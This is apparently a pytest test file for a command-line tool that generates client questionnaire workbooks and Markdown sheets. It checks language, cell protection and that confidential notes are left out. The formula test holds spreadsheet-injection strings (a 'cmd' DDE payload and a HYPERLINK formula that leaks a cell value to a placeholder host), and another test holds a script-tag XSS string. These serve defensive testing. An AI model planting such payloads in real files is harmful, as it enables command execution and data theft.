"""``questions``: what stands in a sheet, and what never does."""

import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.cli.conftest import Rechenwerk
from tests.cli.filling import column_of, rows
from wizard.datafiles.packaged import data_folder

EXAMPLE = data_folder("questionnaires") / "examples" / "stadtwerke.yaml"
BRANDS = data_folder("report_templates") / "brands"
DAY = ("--as-of", "2026-11-30")


@pytest.fixture
def acme(tmp_path: Path) -> Path:
    file = tmp_path / "acme.yaml"
    shutil.copyfile(EXAMPLE, file)
    return file


def _sheet(rechenwerk: Rechenwerk, acme: Path, *arguments: object) -> Path:
    outcome = rechenwerk("questions", acme, *arguments, *DAY)
    assert outcome.code == 0, outcome.err
    return Path(outcome.out.strip())


def _texts(path: Path) -> str:
    if path.suffix == ".md":
        return path.read_text(encoding="utf-8")
    pages = load_workbook(path).worksheets
    return "\n".join(str(cell.value) for page in pages for row in page.iter_rows() for cell in row if cell.value)


@pytest.mark.parametrize("kind", ["xlsx", "md"])
@pytest.mark.parametrize(
    ("language", "words"),
    [
        ("de", ("Gebäudetechnik", "Investitionsbudget", "Stadtwerke Lindenau", "300\u202fPersonen", "Vertraulich")),
        ("en", ("Facility management", "Investment budget", "Stadtwerke Lindenau", "300\u202fpeople", "Confidential")),
    ],
)
def test_a_sheet_speaks_its_language(
    rechenwerk: Rechenwerk, acme: Path, kind: str, language: str, words: tuple[str, ...]
) -> None:
    written = _texts(_sheet(rechenwerk, acme, "--format", kind, "--lang", language))
    assert [word for word in words if word not in written] == []


@pytest.mark.parametrize("kind", ["xlsx", "md"])
def test_internal_notes_never_leave_the_house(rechenwerk: Rechenwerk, acme: Path, kind: str) -> None:
    assert "80.000 EUR mehr" in acme.read_text(encoding="utf-8")
    sheet = _sheet(rechenwerk, acme, "--format", kind)
    written = sheet.read_bytes() if kind == "md" else b"".join(_parts(sheet).values())
    assert b"80.000 EUR mehr" not in written
    assert b"Aufsichtsrat verlangt" not in written


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {name: package.read(name) for name in package.namelist()}


def test_open_questions_only(rechenwerk: Rechenwerk, acme: Path) -> None:
    every = rechenwerk("questions", acme, "--out", acme.parent / "a.md", "--format", "md", "--json").document
    some = rechenwerk("questions", acme, "--out", acme.parent / "b.md", "--format", "md", "--open", "--json").document
    assert 0 < some["questions"] < every["questions"]
    written = Path(some["file"]).read_text(encoding="utf-8")
    assert "`fin.capex_budget@" not in written
    assert "`site.cooling@" in written


def test_nothing_of_the_clients_becomes_a_formula(rechenwerk: Rechenwerk, acme: Path) -> None:
    for value in ("=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(A1)", '=HYPERLINK("http://x/?"&A1,"x")'):
        rechenwerk("set", acme, f"client.name={value}")
        sheet = _sheet(rechenwerk, acme, "--force", "--brand", BRANDS / "werkhof" / "_brand.yml")
        cells = [cell for page in load_workbook(sheet).worksheets for row in page.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert value in {cell.value for cell in cells}
        assert not any(b"<f>" in part or b"<f " in part for part in _parts(sheet).values())


def test_only_answer_cells_can_be_changed(rechenwerk: Rechenwerk, acme: Path) -> None:
    book = load_workbook(_sheet(rechenwerk, acme))
    marked = list(rows(book))
    assert len(marked) > 100
    for page, row, _question in marked:
        assert page.protection.sheet
        assert page.column_dimensions["A"].hidden
        free = {cell.column for cell in page[row] if not cell.protection.locked}
        assert free == {column_of(page, "answer"), column_of(page, "by")}


def test_a_choice_is_offered_as_a_list(rechenwerk: Rechenwerk, acme: Path) -> None:
    book = load_workbook(_sheet(rechenwerk, acme, "--lang", "de"))
    page, row, _question = next(found for found in rows(book) if found[2] == "client.country")
    rules = [rule for rule in page.data_validations.dataValidation if f"H{row}" in str(rule.sqref)]
    assert [rule.type for rule in rules] == ["list"]
    name, left, top, bottom = re.fullmatch(r"=?(\w+)!\$(\w+)\$(\d+):\$\w+\$(\d+)", rules[0].formula1).groups()
    offered = [book[name][f"{left}{line}"].value for line in range(int(top), int(bottom) + 1)]
    assert offered[:3] == ["Deutschland", "Österreich", "Schweiz"]
    assert offered[-1] == "?"
    assert book[name].sheet_state == "hidden"


def test_the_same_sheet_has_the_same_bytes(rechenwerk: Rechenwerk, acme: Path) -> None:
    first = _sheet(rechenwerk, acme, "--out", acme.parent / "a.xlsx").read_bytes()
    assert _sheet(rechenwerk, acme, "--out", acme.parent / "b.xlsx").read_bytes() == first


def test_a_sheet_that_may_hold_answers_is_not_replaced(rechenwerk: Rechenwerk, acme: Path) -> None:
    sheet = _sheet(rechenwerk, acme)
    sheet.write_bytes(b"filled in")
    outcome = rechenwerk("questions", acme, *DAY)
    assert (outcome.code, "[R063]" in outcome.err) == (3, True)
    assert sheet.read_bytes() == b"filled in"
    assert _sheet(rechenwerk, acme, "--force").read_bytes() != b"filled in"


def test_a_png_logo_stands_in_the_workbook(rechenwerk: Rechenwerk, acme: Path) -> None:
    sheet = _sheet(rechenwerk, acme, "--brand", BRANDS / "werkhof" / "_brand.yml")
    images = [content for name, content in _parts(sheet).items() if name.endswith(".png")]
    assert images == [(BRANDS / "werkhof" / "logo.png").read_bytes()]


@pytest.mark.parametrize("kind", ["xlsx", "md"])
def test_hostile_names_stay_text(rechenwerk: Rechenwerk, acme: Path, kind: str) -> None:
    name = "`fin.capex_budget@-` **x** <script>alert(1)</script> [a](http://x) &amp; # ## |"
    assert rechenwerk("set", acme, f"client.name={name}").code == 0
    written = _texts(_sheet(rechenwerk, acme, "--format", kind))
    if kind == "xlsx":
        assert name in written
    else:
        assert "<script>" not in written.replace("\\<script", "")
        assert len(re.findall(r"(?m)^`fin\.capex_budget@", written)) == 1


def test_nothing_open_writes_no_sheet(rechenwerk: Rechenwerk, tmp_path: Path) -> None:
    file = tmp_path / "b.yaml"
    assert rechenwerk("new", file, "--no-tui", "--lang", "en").code == 0
    asked = rechenwerk("questions", file, "--format", "md", "--lang", "en", *DAY)
    keys = re.findall(r"(?m)^`(?:w1:)?([\w.]+)@", Path(asked.out.strip()).read_text(encoding="utf-8"))
    assert 8 <= len(keys) <= 15
    for key in keys:
        assert rechenwerk("set", file, "--not-applicable", f"{key}=x").code == 0
    outcome = rechenwerk("questions", file, "--open", "--lang", "en", "--format", "md", "--out", tmp_path / "c.md")
    assert (outcome.code, outcome.out, (tmp_path / "c.md").exists()) == (0, "", False)


def test_force_replaces_files_and_never_a_pipe_or_folder(rechenwerk: Rechenwerk, acme: Path) -> None:
    """Run by an administrator, a rename over a device would take the device away."""
    pipe = acme.parent / "pipe.md"
    os.mkfifo(pipe)
    for target in (pipe, acme.parent, "."):
        outcome = rechenwerk("questions", acme, "--format", "md", "--force", "--out", target)
        assert (outcome.code, "[R008]" in outcome.err) == (3, True)
    assert pipe.is_fifo()
